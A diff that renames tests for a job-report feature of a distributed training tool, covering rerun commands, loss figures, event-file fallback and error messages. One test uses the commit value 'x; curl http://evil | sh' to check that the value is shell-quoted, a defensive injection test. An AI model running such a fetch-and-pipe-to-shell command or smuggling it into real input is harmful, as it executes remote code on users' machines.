@@ -1,4 +1,4 @@
-"""What a report says of a job: the document, its page, and the commands that run the job again."""
+"""The report of a job: the document, its page, and the commands that run the job again."""
 
 import json
 
@@ -12,7 +12,7 @@ from tests.support.ended_cluster import Home
 from tests.support.event_file import record
 
 
-def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
+def test_the_report_has_the_commands_that_run_the_job_again(home: Home) -> None:
     home.job("one", 100, args=["a b", "--x"], resumed="before", options=["-o", "job.timeout=1h"])
     assert list(report(home.session(), job="one").again) == [
         "git checkout 0123456789abcdef",
@@ -22,7 +22,7 @@ def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
     ]
 
 
-def test_a_job_has_one_loss_wherever_it_is_shown(home: Home) -> None:
+def test_all_documents_show_the_same_loss_of_a_job(home: Home) -> None:
     folder = home.job("one", 100)
     losses = {0: (3.0, 2.0, 2.5), 1: (1.0, 0.5, 0.75), 2: (9.0, 8.0, 8.5), 3: (0.1, 0.2, 0.3)}
     for node in (0, 1):
@@ -32,14 +32,14 @@ def test_a_job_has_one_loss_wherever_it_is_shown(home: Home) -> None:
             for rank in (2 * node, 2 * node + 1)
         ]
         (folder / f"node{node}/run/metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
-    shown, job = report(home.session(), job="one"), read_job(folder)
-    (listed,) = make_jobs_document(home.session(), ()).jobs
-    assert job is not None and shown.measures["loss"] == {"last": 2.5, "best": 2.0}
-    assert {shown.loss, listed.loss, make_job_result(home.session(), job, folder=folder).loss} == {2.5}
-    assert shown.accuracy == shown.measures["accuracy"]["last"] == 1 / 2.5
+    document, job = report(home.session(), job="one"), read_job(folder)
+    (row,) = make_jobs_document(home.session(), ()).jobs
+    assert job is not None and document.measures["loss"] == {"last": 2.5, "best": 2.0}
+    assert {document.loss, row.loss, make_job_result(home.session(), job, folder=folder).loss} == {2.5}
+    assert document.accuracy == document.measures["accuracy"]["last"] == 1 / 2.5
 
 
-def test_what_up_is_given_is_not_given_to_train_again(home: Home) -> None:
+def test_options_of_up_are_not_repeated_for_train(home: Home) -> None:
     home._rows[0]["asked"] = {"cluster.nodes": 2, "env.file": "requirements.txt"}
     env = ["-o", "env.file=requirements.txt", "-o", "env.python=/usr/bin/python3.12"]
     home.job("one", 100, options=env)
@@ -49,12 +49,12 @@ def test_what_up_is_given_is_not_given_to_train_again(home: Home) -> None:
     ]
 
 
-def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> None:
+def test_a_commit_from_a_node_is_quoted_in_the_command(home: Home) -> None:
     home.job("one", 100, commit="x; curl http://evil | sh")
     assert report(home.session(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"
 
 
-def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
+def test_a_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
     folder = home.job("one", 100, started=None, ended=None, commit=None, script=None)
     for path in (*folder.rglob("*.log"), *folder.rglob("metrics.jsonl")):
         path.unlink()
@@ -65,19 +65,19 @@ def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
     assert "<svg" not in (folder / "report.html").read_text()
 
 
-def test_loss_is_of_tensorboards_files_where_the_metrics_hold_none(home: Home) -> None:
+def test_the_loss_is_read_from_event_files_if_there_are_no_metrics(home: Home) -> None:
     folder = home.job("one", 100)
     for file in folder.rglob("metrics.jsonl"):
         file.unlink()
-    place = folder / "node1" / "runs"
-    place.mkdir()
+    events_dir = folder / "node1" / "runs"
+    events_dir.mkdir()
     events = b"".join(record(step, (b"train/loss", 4.0 / step)) for step in (1, 2, 4))
-    (place / "events.out.tfevents.1.host").write_bytes(events)
+    (events_dir / "events.out.tfevents.1.host").write_bytes(events)
     assert report(home.session(), job="one")["measures"] == {"loss": {"last": 1.0, "best": 1.0}}
     assert (folder / "report.html").read_text().count("<polyline") == 1
 
 
-def test_without_a_name_the_page_is_of_the_last_job(home: Home) -> None:
+def test_report_without_a_name_is_for_the_last_job(home: Home) -> None:
     folder = home.job("one", 200)
     home.job("two", 100)
     session = home.session()
@@ -85,7 +85,7 @@ def test_without_a_name_the_page_is_of_the_last_job(home: Home) -> None:
     assert "<code>one</code>" in (folder / "report.html").read_text()
 
 
-def test_unknown_job_is_named_with_the_command_that_lists_all(home: Home) -> None:
-    with pytest.raises(NotFoundError, match="no job none") as caught:
+def test_an_unknown_job_is_refused_with_the_command_that_lists_all(home: Home) -> None:
+    with pytest.raises(NotFoundError, match="no job none") as error:
         report(home.session(), job="none")
-    assert caught.value.next.startswith("awsddp jobs ")
+    assert error.value.next.startswith("awsddp jobs ")
